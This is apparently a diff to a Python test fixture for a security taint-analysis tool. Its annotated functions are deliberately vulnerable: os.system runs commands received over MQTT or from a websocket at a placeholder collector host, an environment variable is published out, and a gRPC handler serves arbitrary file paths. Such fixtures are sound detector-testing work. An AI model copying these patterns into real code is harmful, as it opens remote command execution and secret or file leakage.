@@ -194,6 +194,7 @@ def mqtt_publish():
 
 def on_mqtt(client, userdata, message):
     os.system(message.payload)  #~ sink(exec.command) fmqtt, finding(traced) fmqtt
+    client.publish("answer", os.getenv("T"))  #~ source(ENVIRONMENT) fmqtt2, sink(egress.message) fmqtt2, finding(traced) fmqtt2
 
 
 def on_quiet_mqtt(client, userdata, message):
@@ -202,8 +203,8 @@ def on_quiet_mqtt(client, userdata, message):
 
 def mqtt_listen():
     c = paho.mqtt.client.Client()
-    c.on_message = on_mqtt
-    c.loop_forever()  #~ source(NETWORK) fmqtt
+    c.on_message = on_mqtt  #~ source(NETWORK) fmqtt
+    c.loop_forever()  #~ capability(NETWORK)
 
 
 def mqtt_single():
@@ -381,3 +382,36 @@ def process_constants():
     c.send("ping")  #~ ok
     c = Listener(("", 6000)).accept()  #~ ok
     requests.post(U, data={"bye": c.recv() == "bye"})  #~ ok
+
+
+async def socket_messages():
+    async with websockets.connect("wss://iterated.collector.example/") as ws:  #~ source(NETWORK) fiter
+        async for message in ws:
+            os.system(message)  #~ sink(exec.command) fiter, finding(traced) fiter
+
+
+async def socket_messages_counted():
+    async with websockets.connect("wss://iterated.collector.example/") as ws:
+        async for _ in ws:
+            await ws.send("pong")  #~ ok
+
+
+class Servicer:
+    def Fetch(self, request, context):
+        with open(request.path, "rb") as f:  #~ source(FILE) fservicer
+            return f.read()
+
+    def Count(self, request, context):
+        return len(request.path)
+
+
+def add_to_server(servicer, server):
+    handlers = {
+        "Fetch": grpc.unary_unary_rpc_method_handler(servicer.Fetch),  #~ sink(egress.message) fservicer, finding(traced) fservicer, capability(NETWORK)
+        "Count": grpc.unary_unary_rpc_method_handler(servicer.Count),  #~ ok
+    }
+    server.add_generic_rpc_handlers((grpc.method_handlers_generic_handler("a.Agent", handlers),))
+
+
+def serve():
+    add_to_server(Servicer(), grpc.server(None))
